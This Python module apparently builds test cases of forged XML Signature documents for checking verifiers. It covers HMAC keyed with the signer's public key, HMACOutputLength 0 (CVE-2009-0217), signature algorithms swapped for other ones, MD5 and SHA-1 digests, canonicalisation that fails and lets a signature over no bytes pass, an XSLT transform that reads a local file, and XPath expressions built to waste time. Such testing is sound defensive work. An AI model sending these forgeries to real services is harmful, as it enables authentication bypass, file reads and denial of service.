"""Algorithms that the attacker chooses: keys that are no secret, digests that can be made, transforms that leave out what
was signed, canonicalisation that fails and leaves nothing."""

import hmac

from cryptography.hazmat.primitives import hashes

from .maker import (
    DS,
    ENVELOPED,
    EXCLUSIVE,
    MORE,
    RSA_SHA256,
    SHA256,
    SIGNER,
    canonical,
    changed,
    encoded,
    reference,
    signature,
    signed_info,
    transform,
)

ROW = 8
ROWS = {"hmac": 6, "canonicalization": 5, "digest_of": 5, "signature_of": 5, "method": 7, "sha1": 14, "md5": 14}

INCLUSIVE = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"


def _hmac(place, method, key, name="sha256", inside=""):
    info = signed_info(reference(place.forged(), f"#{place.forged_id}"), method=method, inside=inside)
    value = hmac.new(key, canonical(info), name).digest()
    return place.around(place.forged(signature(info, encoded(value))))


def hmac_with_the_public_key(place):
    """HMAC-SHA256 keyed with the PEM of the signer's public key, which everybody has"""
    return _hmac(place, MORE + "hmac-sha256", SIGNER.public_pem)


def hmac_with_the_certificate(place):
    """the same with the PEM of its certificate"""
    return _hmac(place, MORE + "hmac-sha256", SIGNER.certificate_pem)


def hmac_with_the_certificate_in_der(place):
    """the same with its DER"""
    return _hmac(place, MORE + "hmac-sha256", SIGNER.der)


def hmac_sha1_with_the_public_key(place):
    """HMAC-SHA1, the one that every implementation has to have"""
    return _hmac(place, DS + "hmac-sha1", SIGNER.public_pem, "sha1")


def hmac_with_an_empty_key(place):
    """keyed with nothing"""
    return _hmac(place, MORE + "hmac-sha256", b"")


def hmac_cut_short(place):
    """HMACOutputLength 0: any value is right (CVE-2009-0217)"""
    length = "<ds:HMACOutputLength>0</ds:HMACOutputLength>"
    info = signed_info(reference(place.forged(), f"#{place.forged_id}"), method=MORE + "hmac-sha256", inside=length)
    return place.around(place.forged(signature(info, "")))


def method_with_a_parameter(place):
    """an RSA signature whose method has HMAC's length in it"""
    length = "<ds:HMACOutputLength>1</ds:HMACOutputLength>"
    info = signed_info(reference(place.honest(), f"#{place.honest_id}"), inside=length)
    return place.around(place.honest(signature(info)))


def _method(place, method):
    info = signed_info(reference(place.forged(), f"#{place.forged_id}"), method=method)
    return place.around(place.forged(signature(info, encoded(b"\0" * 256))))


def method_unknown(place):
    """a method that nobody knows: whoever goes on has verified nothing"""
    return _method(place, "urn:none")


def method_empty(place):
    """a method that says nothing"""
    return _method(place, "")


def method_missing(place):
    """a method without Algorithm"""
    return changed(_method(place, "urn:none"), ' Algorithm="urn:none"', "")


def method_of_another_key(place):
    """ECDSA against an RSA key: the error is taken for a yes"""
    return _method(place, MORE + "ecdsa-sha256")


def method_dsa(place):
    """DSA against an RSA key"""
    return _method(place, DS + "dsa-sha1")


def sha1_signature(place):
    """RSA with SHA-1 by the signer's own key"""
    info = signed_info(reference(place.honest(), f"#{place.honest_id}"), method=DS + "rsa-sha1")
    value = encoded(SIGNER.sign(canonical(info), hashes.SHA1()))
    return place.around(place.honest(signature(info, value)))


def sha1_digest(place):
    """a SHA-1 digest under a signature with SHA-256"""
    text = reference(place.honest(), f"#{place.honest_id}", digest=DS + "sha1", algorithm="sha1")
    return place.around(place.honest(signature(signed_info(text))))


def md5_digest(place):
    """an MD5 digest"""
    text = reference(place.honest(), f"#{place.honest_id}", digest=MORE + "md5", algorithm="md5")
    return place.around(place.honest(signature(signed_info(text))))


def canonicalization_void(place):
    """SignedInfo with a relative namespace: canonicalisers fail, and the signature of nothing at all is good"""
    info = signed_info(reference(place.forged(), f"#{place.forged_id}"))
    text = signature(info, encoded(SIGNER.sign(b"")))
    return place.around(place.forged(changed(text, "<ds:SignedInfo ", '<ds:SignedInfo xmlns:void="1" ')))


def canonicalization_void_of_the_element(place):
    """the same for the element: its digest is that of nothing"""
    text = reference(place.forged(), f"#{place.forged_id}", octets=b"")
    forged = place.forged(signature(signed_info(text)))
    return place.around(changed(forged, " ID=", ' xmlns:void="1" ID='))


def digest_of_nothing(place):
    """the digest of no bytes, signed, as after a canonicalisation that failed"""
    text = reference(place.forged(), f"#{place.forged_id}", octets=b"")
    return place.around(place.forged(signature(signed_info(text))))


def signature_of_nothing(place):
    """the signer's signature of no bytes"""
    info = signed_info(reference(place.forged(), f"#{place.forged_id}"))
    return place.around(place.forged(signature(info, encoded(SIGNER.sign(b"")))))


def _canonicalization(place, algorithm, more=""):
    info = signed_info(reference(place.honest(), f"#{place.honest_id}"), canonicalization=algorithm, more=more)
    return place.around(place.honest(signature(info)))


def canonicalization_inclusive(place):
    """SignedInfo canonicalised with all that is declared around it"""
    return _canonicalization(place, INCLUSIVE)


def canonicalization_unknown(place):
    """a canonicalisation that nobody knows"""
    return _canonicalization(place, "urn:none")


def canonicalization_by_xslt(place):
    """SignedInfo through a stylesheet"""
    sheet = '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"></x:stylesheet>'
    return _canonicalization(place, XSLT, sheet)


def _transformed(place, transforms, forged=False):
    element, id = (place.forged, place.forged_id) if forged else (place.honest, place.honest_id)
    text = reference(element(), f"#{id}", transforms=transforms)
    return place.around(element(signature(signed_info(text))))


def transform_xslt(place):
    """a stylesheet that puts the signed bytes in the place of the forged ones, and reads a file on the way"""
    sheet = (
        '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/">'
        "<x:copy-of select=\"document('file:///etc/hostname')\"></x:copy-of></x:template></x:stylesheet>"
    )
    return _transformed(place, transform(ENVELOPED) + transform(XSLT, sheet) + transform(EXCLUSIVE))


def transform_xpath(place):
    """an XPath that leaves out what the attacker adds"""
    path = "<ds:XPath>not(ancestor-or-self::Extensions)</ds:XPath>"
    return _transformed(place, transform(ENVELOPED) + transform(XPATH, path))


def transform_xpath_that_takes_time(place):
    """an XPath whose time is a power of the document's size (CVE-2026-49289)"""
    path = "<ds:XPath>count(//*[count(//*[count(//*) > 0]) > 0]) > 0</ds:XPath>"
    return _transformed(place, transform(XPATH, path) + transform(EXCLUSIVE))


def transform_xpath_filter(place):
    """XPath Filter 2.0: what is intersected with nothing is signed as nothing"""
    algorithm = "http://www.w3.org/2002/06/xmldsig-filter2"
    path = f'<f:XPath xmlns:f="{algorithm}" Filter="subtract">/</f:XPath>'
    return _transformed(place, transform(ENVELOPED) + transform(algorithm, path), forged=True)


def transform_base64(place):
    """the text alone, decoded"""
    return _transformed(place, transform(ENVELOPED) + transform(DS + "base64"))


def transform_decrypt(place):
    """the Decryption Transform"""
    return _transformed(place, transform(ENVELOPED) + transform("http://www.w3.org/2002/07/decrypt#XML"))


def transform_inclusive(place):
    """inclusive canonicalisation in the second place"""
    return _transformed(place, transform(ENVELOPED) + transform(INCLUSIVE))


def transform_unknown(place):
    """a transform that nobody knows, passed over"""
    return _transformed(place, transform(ENVELOPED) + transform("urn:none") + transform(EXCLUSIVE))


def transform_enveloped_missing(place):
    """exclusive canonicalisation alone"""
    return _transformed(place, transform(EXCLUSIVE))


def transform_enveloped_twice(place):
    """two signatures are to be taken out"""
    return _transformed(place, transform(ENVELOPED) + transform(ENVELOPED) + transform(EXCLUSIVE))


def transform_order(place):
    """canonicalisation before the signature is taken out"""
    return _transformed(place, transform(EXCLUSIVE) + transform(ENVELOPED))


def transforms_missing(place):
    """no Transforms at all"""
    text = reference(place.honest(), f"#{place.honest_id}", transforms="")
    text = changed(text, "<ds:Transforms></ds:Transforms>\n", "")
    return place.around(place.honest(signature(signed_info(text))))


def transforms_two(place):
    """two elements Transforms, of which one is looked at"""
    text = reference(place.honest(), f"#{place.honest_id}")
    again = f"<ds:Transforms>{transform(XPATH, '<ds:XPath>true()</ds:XPath>')}</ds:Transforms>"
    return place.around(
        place.honest(signature(signed_info(changed(text, "</ds:Transforms>", "</ds:Transforms>" + again))))
    )


def transforms_a_hundred(place):
    """a hundred canonicalisations"""
    return _transformed(place, transform(ENVELOPED) + transform(EXCLUSIVE) * 100)


def prefix_list_of_a_thousand(place):
    """an InclusiveNamespaces PrefixList that makes work on every element"""
    listed = " ".join(f"p{number}" for number in range(1000))
    inclusive = f'<e:InclusiveNamespaces xmlns:e="{EXCLUSIVE}" PrefixList="{listed}"></e:InclusiveNamespaces>'
    return _transformed(place, transform(ENVELOPED) + transform(EXCLUSIVE, inclusive))


def digest_method_with_a_parameter(place):
    """something in DigestMethod that a newer algorithm would read"""
    text = reference(place.honest(), f"#{place.honest_id}")
    text = changed(text, f'Algorithm="{SHA256}">', f'Algorithm="{SHA256}"><e:length xmlns:e="urn:e">1</e:length>')
    return place.around(place.honest(signature(signed_info(text))))


def rsa_with_the_digest_of_another(place):
    """the value is over a SHA-1 digest, the method says SHA-256"""
    info = signed_info(reference(place.honest(), f"#{place.honest_id}"), method=RSA_SHA256)
    return place.around(place.honest(signature(info, encoded(SIGNER.sign(canonical(info), hashes.SHA1())))))
